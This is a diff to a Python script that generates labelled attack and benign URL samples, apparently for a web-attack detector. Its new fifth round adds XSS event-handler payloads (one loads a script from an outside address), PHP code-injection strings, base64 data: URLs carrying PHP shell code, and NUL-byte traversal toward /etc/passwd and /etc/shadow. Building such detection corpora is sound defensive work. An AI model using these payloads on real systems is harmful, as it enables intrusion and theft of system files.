@@ -1077,6 +1077,75 @@ def round4():
     return cmdi, xss, exploit
 
 
+# ---- fifth round (issue 21, h29): classes a second held-out set (Debian's
+# wapiti payload files) showed missing, written from the grammar of each
+# language. Gap 1: a value written into an UNQUOTED attribute breaks out
+# with a blank or '/' (HTML's attribute separators) and sets an event
+# handler: no quote, no tag. Gap 2: a statement break that comments out
+# the rest of the line (PHP's and JavaScript's "//" and "#"): the value
+# leaves its string, calls something, ends the statement. Gap 3: the
+# body of a data: URL, base64, handed to include(). Gap 4: NUL bytes
+# inside dot segments and before an absolute path (a decoder that drops
+# them, a C string that stops at them). Benign twins: developers'
+# searches for handlers and code, recipes, images and text as data: URLs,
+# a NUL with no path.
+rnd5 = random.Random(2026120729)
+
+XSS_R5 = [
+    "x onmouseenter=alert(document.domain)", "foo autofocus onfocusin=confirm`1`",
+    "a tabindex=1 onkeyup=(prompt)(1)", "v/onpointerover=top['al'+'ert'](1)",
+    "1 style=animation-name:spin onanimationstart=alert(1)", "zz accesskey=x onclick=self[`print`]()",
+    "q ontransitionend=eval(atob('YWxlcnQoMSk='))", "b draggable=true ondragstart=import('//203.0.113.7/x.js')",
+    "k\tonwheel=alert(1)", "n contenteditable onbeforeinput=(confirm)`2`",
+]
+
+CODE_R5 = [
+    "';var_dump(getenv());//", "\";print_r(scandir('.'));#", "1;die(sha1(7));//", "abc';usleep(9000000);//",
+    "';sleep(5);#", "x\";throw new Error(String(9*9));//", "') ;file_get_contents('/etc/hostname');//",
+    "\";while(true){}if(1)(1);//", "7;highlight_file(__FILE__);#",
+]
+
+DATA_R5 = [  # (prefix, body): data: URLs whose base64 body is code
+    ("data:;base64,", "<?php passthru($_GET['c']); ?>"),
+    ("data://text/plain;base64,", "<?php system('uname -a');?>"),
+    ("data:text/plain;charset=utf-8;base64,", "<?= `id` ?>"),
+    ("data:application/x-php;base64,", "<?php echo file_get_contents('/etc/passwd'); ?>"),
+]
+
+TRAV_R5 = [
+    "..%00/..%00/..%00/windows/win.ini", "%00../../../etc/group", ".%00.%5c.%00.%5c.%00.%5cboot.ini",
+    "%00/proc/self/environ", ".%00./.%00./.%00./etc/issue%00", "%00%00/etc/shadow",
+]
+
+BENIGN_R5 = [
+    "/search?q=window+onload%3Dinit()", "/search?q=body+onload=startClock()+(deprecated)", "/recipes?q=red+onions%3D(2+cups)",
+    "/search?q=turn+on+sale%3Dyes", "/search?q=button+onclick=submitForm(this)",
+    "/forum/search.php?keywords=how+to+use+onchange%3Dupdate()+in+a+select", "/search?q=add-ons+install%3D(beta)",
+    "/search?q=img+onerror%3Dthis.src%3D%27fallback.png%27", "/search?q=what+does+exit();//+mean",
+    "/search?q=return+f(x);//", "/code?snippet=main();//", "/search?q=it%27s+done();%23",
+    "/search?q=printf(%22hi%22);+//+comment+style", "/search?q=don%27t+call+exit()%3B",
+    "/api/v1/avatar?img=data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg%3D%3D",
+    "/api/v1/import?body=data:text/csv;base64," + q(b64("name,qty\nwidget,3\n")),
+    "/api/v1/notes?body=data%3Aapplication%2Fjson%3Bbase64%2C" + q(b64('{"a":1,"b":[2,3]}')),
+    "/track?id=ab%00cd", "/files/a.b%00c", "/search?q=version+2.0%00", "/search?q=data:+base64+decode",
+]
+
+
+def round5():
+    xss = r2_lines(XSS_R5, [e_plain, e_pct, e_double, e_form], ["q", "name", "title", "cls"])
+    code = []
+    for p in CODE_R5:
+        for e in rnd5.sample([e_pct, e_double, e_bar, e_form], 2):
+            code.append("%s?%s=%s" % (rnd5.choice(ENDPOINTS), rnd5.choice(["id", "q", "name", "sort"]), e(p)))
+    for pre, body in DATA_R5:
+        for e in (lambda x: x, q):
+            code.append("%s?%s=%s" % (rnd5.choice(ENDPOINTS), rnd5.choice(["page", "file", "inc", "tpl"]),
+                                      e(pre) + q(b64(body))))
+    trav = ["%s?%s=%s" % (rnd5.choice(ENDPOINTS), rnd5.choice(["file", "page", "doc"]), p) for p in TRAV_R5]
+    trav += ["/static/..%00/..%00/..%00/etc/passwd"]
+    return xss, code, trav
+
+
 def benign_lines():
     out = list(TRICKY)
     for name in NAMES + WORDS_JA + WORDS_DE + WORDS_FR:
@@ -1155,6 +1224,11 @@ def main():
     append("attacks/xss.txt", xss4, "fourth round (issue 21: entities with their '&' unencoded)")
     append("benign.txt", BENIGN_R4_AMP + ["/\tUA:" + ua for ua in BENIGN_UA_R4],
            "fourth round (issue 21: doubled, trailing and bare '&', an '&' inside a value; user agents)")
+    xss5, code5, trav5 = round5()
+    header5 = "fifth round (issue 21, wapiti: unquoted attributes, commented statement breaks, data: URLs, NUL)"
+    for path, extra in (("attacks/xss.txt", xss5), ("attacks/code-injection.txt", code5),
+                        ("attacks/traversal.txt", trav5), ("benign.txt", BENIGN_R5)):
+        append(path, extra, header5)
 
 
 if __name__ == "__main__":
